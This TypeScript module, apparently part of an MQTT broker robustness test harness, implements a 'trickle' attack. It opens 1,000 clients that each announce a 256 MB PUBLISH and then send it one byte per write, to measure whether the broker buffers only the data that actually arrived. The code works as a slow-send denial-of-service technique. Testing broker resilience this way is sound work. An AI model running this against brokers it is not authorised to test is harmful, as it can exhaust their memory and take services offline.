/**
 * A packet sent one byte at a time: 1,000 clients each announce a 256 MB PUBLISH after their CONNECT and then send
 * a few kilobytes of it, every byte in a write (and, with Nagle off, a TCP segment) of its own. A broker should hold
 * what arrived, not what was announced, nor a buffer per read.
 */
import { setImmediate as nextTurn } from 'node:timers/promises';
import type { MqttClient } from '../../harness/mqtt-client.js';
import type { Attack, AttackOutcome, AttackTarget } from '../attack.js';
import { connected, sleep } from './tools.js';

const CLIENTS = 1_000;
/** Remaining length 268,435,455: the largest a packet can announce. */
const ANNOUNCE = Buffer.from([0x30, 0xff, 0xff, 0xff, 0x7f]);
/** The trickle stops here even if not every byte is out: the attack is meant to take seconds. */
const TIME_LIMIT_MS = 30_000;
/** With the bytes in, the broker holds them this long before the clients leave. */
const HOLD_MS = 1_000;
/** Clients connecting at once; more only fill the broker's listen backlog. */
const CONNECTING_AT_ONCE = 100;

async function trickle(target: AttackTarget): Promise<AttackOutcome> {
  const clients: MqttClient[] = [];
  const notes: string[] = [];
  try {
    for (let i = 0; i < CLIENTS; i += CONNECTING_AT_ONCE) {
      const batch = Array.from({ length: Math.min(CONNECTING_AT_ONCE, CLIENTS - i) }, (_, k) =>
        connected(target, { clientId: `abuse-trickle-${i + k}` }),
      );
      clients.push(...(await Promise.all(batch)));
    }
    const topic = Buffer.from([0x00, 0x0d, ...Buffer.from('abuse/trickle')]);
    for (const c of clients) c.write(Buffer.concat([ANNOUNCE, topic]));
    const one = Buffer.from([0x61]);
    const started = performance.now();
    let rounds = 0;
    while (rounds < target.trickleBytes && performance.now() - started < TIME_LIMIT_MS) {
      for (const c of clients) c.write(one);
      rounds++;
      // Let each round's writes leave before the next: one byte per write, not queued up in Node.
      await nextTurn();
    }
    if (rounds < target.trickleBytes) notes.push(`stopped after ${rounds} of ${target.trickleBytes} bytes per client (time limit)`);
    await sleep(HOLD_MS);
    const open = clients.filter((c) => c.open).length;
    return {
      inFlightBytes: clients.reduce((sum, c) => sum + c.bytesWritten, 0),
      facts: [
        { label: 'bytes per client', value: rounds, unit: 'count' },
        { label: 'trickle took', value: (performance.now() - started - HOLD_MS) / 1000, unit: 's' },
        { label: 'clients still open', value: open, unit: 'count' },
      ],
      notes,
    };
  } finally {
    for (const c of clients) c.destroy();
  }
}

export const TRICKLE: Attack = {
  name: 'trickle',
  title: `${CLIENTS.toLocaleString('en-US')} clients each announce a 256 MB PUBLISH and send part of it one byte per write`,
  run: trickle,
};
